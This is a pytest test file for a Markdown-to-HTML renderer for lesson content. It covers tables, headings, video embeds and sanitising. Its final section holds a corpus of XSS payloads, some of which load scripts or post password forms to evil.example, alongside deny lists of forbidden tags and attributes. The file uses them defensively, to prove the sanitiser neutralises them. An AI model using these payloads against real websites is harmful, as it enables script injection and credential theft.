"""Lesson Markdown to HTML: the features authors use, video embeds, and nothing that runs."""

import re
from html.parser import HTMLParser

import pytest

from smresidency.catalog.render import render_inline, render_markdown, sanitiser_losses

YOUTUBE_EMBED = "https://www.youtube-nocookie.com/embed/"
VIMEO_EMBED = "https://player.vimeo.com/video/"
SAFE_SCHEMES = {"http", "https", "mailto"}
FORBIDDEN_TAGS = {
    "script", "style", "object", "embed", "form", "meta", "svg", "math", "base", "link",
    "input", "button", "body", "html", "noscript", "template", "frame", "frameset", "applet",
}  # fmt: skip
FORBIDDEN_ATTRIBUTES = {"style", "srcdoc", "formaction", "action", "background", "xmlns"}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "xlink:href",
}


class Tags(HTMLParser):
    """Every start tag with its attributes and the tags it is nested in."""

    VOID = {"img", "br", "hr", "meta", "link", "input", "embed", "base", "source", "col", "wbr"}

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None], tuple[str, ...]]] = []
        self.stack: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs), tuple(self.stack)))
        if tag not in self.VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs), tuple(self.stack)))

    def handle_endtag(self, tag):
        if tag in self.stack:
            while self.stack and self.stack.pop() != tag:
                pass

    def find(self, name: str) -> list[tuple[dict[str, str | None], tuple[str, ...]]]:
        return [(attrs, parents) for tag, attrs, parents in self.tags if tag == name]


def url_scheme(value: str) -> str:
    """The scheme a browser would see: it ignores whitespace and control characters."""
    cleaned = re.sub(r"[\x00-\x20]", "", value).lower()
    m = re.match(r"^([a-z][a-z0-9+.-]*):", cleaned)
    return m.group(1) if m else ""


def unsafe_parts(html: str) -> list[str]:
    """Everything in rendered HTML that could run script or load content we did not choose."""
    found = []
    for tag, attrs, _ in Tags(html).tags:
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or name in FORBIDDEN_ATTRIBUTES:
                found.append(f"{tag}[{name}]")
            if name in URL_ATTRIBUTES and value is not None:
                scheme = url_scheme(value)
                if scheme and scheme not in SAFE_SCHEMES:
                    found.append(f"{tag}[{name}={value!r}]")
        if tag == "iframe":
            src = attrs.get("src") or ""
            if not src.startswith((YOUTUBE_EMBED, VIMEO_EMBED)):
                found.append(f"iframe[src={src!r}]")
    return found


# --- features authors use --------------------------------------------------------------


def test_tables():
    html = render_markdown("| Platform | Audience |\n|---|---|\n| Facebook | Families |\n")
    tags = Tags(html)
    # the wrapper lets keyboard users scroll a wide table on a phone
    assert tags.tags[0][0] == "div"
    assert dict(tags.tags[0][1]) == {
        "class": "table-scroll",
        "role": "region",
        "tabindex": "0",
        "aria-label": "Table",
    }
    assert [t for t, _, _ in tags.tags[1:]] == [
        "table",
        "thead",
        "tr",
        "th",
        "th",
        "tbody",
        "tr",
        "td",
        "td",
    ]
    assert "<th>Platform</th>" in html
    assert "<td>Families</td>" in html


def test_fenced_code_keeps_its_language_and_escapes_html():
    html = render_markdown('```html\n<b onclick="x()">bold</b>\n```\n')
    assert '<pre><code class="language-html">' in html
    assert "&lt;b onclick=" in html
    assert not Tags(html).find("b")


def test_headings_get_ids_for_linking():
    html = render_markdown("## Protected health information\n\n### Identifiers hide\n")
    assert '<h2 id="protected-health-information">Protected health information</h2>' in html
    assert '<h3 id="identifiers-hide">Identifiers hide</h3>' in html


def test_admonitions_keep_their_classes():
    html = render_markdown('!!! warning "Before you post"\n    Check the background.\n')
    tags = Tags(html)
    (div_attrs, _) = tags.find("div")[0]
    assert div_attrs["class"] == "admonition warning"
    assert '<p class="admonition-title">Before you post</p>' in html
    assert "<p>Check the background.</p>" in html


def test_author_class_names_are_dropped():
    html = render_markdown('<div class="admonition btn-danger">x</div>\n\n<p class="huge">y</p>')
    assert '<div class="admonition">x</div>' in html
    assert "huge" not in html


def test_smart_quotes_and_dashes():
    html = render_markdown('"Quoted" and it\'s fine -- really...')
    assert "\u201cQuoted\u201d" in html
    assert "it\u2019s" in html
    assert "\u2013" in html
    assert "\u2026" in html


def test_relative_images_are_prefixed_with_image_base():
    text = "![A chart](images/chart.png)\n\n![Remote](https://example.org/x.png)\n\n![Site](/static/x.png)"
    imgs = [attrs for attrs, _ in Tags(render_markdown(text, "/media/demo/")).find("img")]
    assert [(i["alt"], i["src"]) for i in imgs] == [
        ("A chart", "/media/demo/images/chart.png"),
        ("Remote", "https://example.org/x.png"),
        ("Site", "/static/x.png"),
    ]


def test_images_unchanged_without_image_base():
    (img, _) = Tags(render_markdown("![A chart](images/chart.png)")).find("img")[0]
    assert img["src"] == "images/chart.png"


def test_links_are_kept_and_open_safely():
    html = render_markdown("[Policy](https://example.org/policy) and [mail](mailto:a@example.org)")
    links = [attrs for attrs, _ in Tags(html).find("a")]
    assert [a["href"] for a in links] == ["https://example.org/policy", "mailto:a@example.org"]
    assert all(a["rel"] == "noopener noreferrer" for a in links)


def test_render_inline_drops_the_paragraph():
    assert render_inline("Decline *politely*.") == "Decline <em>politely</em>."
    assert render_inline("One.\n\nTwo.") == "<p>One.</p>\n<p>Two.</p>"


def test_a_leading_hash_in_a_fragment_is_a_hashtag_not_a_heading():
    """Before, `#MeToo` became an <h1> that the sanitiser dropped, and the # vanished."""
    assert render_inline("#MeToo or #HealthTwitter") == "#MeToo or #HealthTwitter"
    assert render_inline("## Not a heading either") == "## Not a heading either"


# --- what sanitising would remove (the loader refuses it) -----------------------------------


@pytest.mark.parametrize(
    ("text", "losses", "empty"),
    [
        (
            '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
            ["the <meta> tag"],
            True,
        ),
        ("<script>alert(1)</script>", ["the <script> tag", "some of its text"], True),
        ("[x](javascript:alert(1))", ["the href attribute of <a>"], False),
        ('<img src="a.png" alt="a" onerror="alert(1)">', ["the onerror attribute of <img>"], False),
        ('<span class="mine">x</span>', ["the class attribute of <span>"], False),
        ("<span></span>", [], True),
        ("Plain *Markdown* with [a link](https://example.org) and a < b", [], False),
        ("![A chart](https://example.org/chart.png)", [], False),
        ("<kbd>Ctrl</kbd> and `<script>` in code", [], False),
        ("https://www.youtube.com/watch?v=dQw4w9WgXcQ", [], False),
        ("<!-- a note to myself --> Visible", [], False),
    ],
)
def test_sanitiser_losses_name_what_would_be_dropped(text, losses, empty):
    assert sanitiser_losses(text) == (losses, empty)


def test_a_reused_parser_renders_like_a_fresh_one():
    """One Markdown parser per thread is reset between texts: no ids or state leak across."""
    first = render_markdown("## Same heading\n\n[^1]: note\n\nText")
    render_markdown("## Same heading\n\n## Same heading")
    assert render_markdown("## Same heading\n\n[^1]: note\n\nText") == first
    assert 'id="same-heading"' in first


# --- video embeds ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "src", "provider"),
    [
        (
            "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
            "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ",
            "YouTube",
        ),
        (
            "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=30s",
            "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ",
            "YouTube",
        ),
        (
            "https://youtu.be/dQw4w9WgXcQ",
            "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ",
            "YouTube",
        ),
        ("https://vimeo.com/76979871", "https://player.vimeo.com/video/76979871?dnt=1", "Vimeo"),
    ],
)
def test_bare_video_url_becomes_privacy_friendly_embed(url, src, provider):
    html = render_markdown(f"Watch this first.\n\n{url}\n\nThen answer the quiz.")
    tags = Tags(html)
    ((iframe, parents),) = tags.find("iframe")
    assert iframe["src"] == src
    assert iframe["title"] == f"Video from {provider}"
    assert "details" in parents, "the player only loads once the learner opens it"
    assert tags.find("summary")
    assert "www.youtube.com/embed" not in html
    assert unsafe_parts(html) == []
    assert "<p>Watch this first.</p>" in html
    assert "<p>Then answer the quiz.</p>" in html


def test_video_url_inside_a_sentence_is_not_embedded():
    url = "https://www.youtube.com/watch?v=dQw4w9WgXcQ"
    html = render_markdown(f"See {url} for more.")
    assert not Tags(html).find("iframe")
    assert url in html


def test_video_link_is_not_embedded():
    html = render_markdown("[Watch the talk](https://youtu.be/dQw4w9WgXcQ)")
    tags = Tags(html)
    assert not tags.find("iframe")
    assert [a["href"] for a, _ in tags.find("a")] == ["https://youtu.be/dQw4w9WgXcQ"]


def test_video_url_in_a_code_block_is_shown_as_written():
    html = render_markdown("Paste the link like this:\n\n```\nhttps://youtu.be/dQw4w9WgXcQ\n```\n")
    assert not Tags(html).find("iframe")
    assert "<pre><code>https://youtu.be/dQw4w9WgXcQ\n</code></pre>" in html


@pytest.mark.parametrize(
    "url",
    [
        "https://www.youtube.com/watch?v=short",
        "https://evil.example/watch?v=dQw4w9WgXcQ",
        "https://vimeo.com/channels/staffpicks",
        "javascript:alert(1)//https://youtu.be/dQw4w9WgXcQ",
    ],
)
def test_non_video_urls_are_not_embedded(url):
    html = render_markdown(url)
    assert not Tags(html).find("iframe")
    assert unsafe_parts(html) == []


# --- nothing that runs -----------------------------------------------------------------

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" onload="alert(1)"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">cover</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name="password"></form>',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<a href="https://example.org" title="a" onmouseover="alert(1)">x</a>',
    '<img src="x" alt="a" "onerror="alert(1)">',
    '<img src="x" alt="a\' onerror=\'alert(1)">',
    "<a href='x\" onclick=\"alert(1)'>x</a>",
    '![a" onerror="alert(1)](x.png)',
    '[x](https://example.org/" onmouseover="alert(1))',
    '<div class="admonition" onclick="alert(1)">x</div>',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<video><source onerror="alert(1)"></video>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<template><script>alert(1)</script></template>",
    '<p>SMRVIDEO-youtube-x" onload="alert(1)-END</p>',
    "SMRVIDEO-vimeo-1234<script>alert(1)</script>-END",
]


def test_corpus_is_large_enough():
    assert len(XSS_PAYLOADS) >= 30
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        '<img src="x" onerror="alert(1)">',
        '<a href=" JaVaScRiPt:alert(1)">x</a>',
        '<iframe src="https://evil.example/"></iframe>',
        '<p style="color:red">x</p>',
        "<svg></svg>",
    ],
)
def test_the_checker_itself_catches_unsafe_html(html):
    """Guards the guard: if unsafe_parts missed these, the corpus test would prove nothing."""
    assert unsafe_parts(html)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
@pytest.mark.parametrize("image_base", ["", "/media/demo"])
def test_xss_payload_is_neutralised(payload, image_base):
    for text in (payload, f"Some text.\n\n{payload}\n\nMore text.", f"- {payload}"):
        html = render_markdown(text, image_base)
        assert unsafe_parts(html) == [], html


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_is_neutralised_inline(payload):
    html = render_inline(payload)
    assert unsafe_parts(html) == [], html


def test_safe_content_survives_sanitising():
    """The sanitiser is not so strict that it eats ordinary lesson content."""
    text = (
        "## Before you post\n\n"
        "Read [the policy](https://example.org/policy) or [this section](#before-you-post).\n\n"
        "![A nurse at a laptop](images/nurse.png)\n\n"
        "**Bold**, *italic*, `code`, ~~no~~ and <kbd>Ctrl</kbd>.\n\n"
        "1. First\n2. Second\n"
    )
    html = render_markdown(text, "/media/demo")
    tags = {t for t, _, _ in Tags(html).tags}
    assert {"h2", "a", "img", "strong", "em", "code", "kbd", "ol", "li"} <= tags
    assert unsafe_parts(html) == []
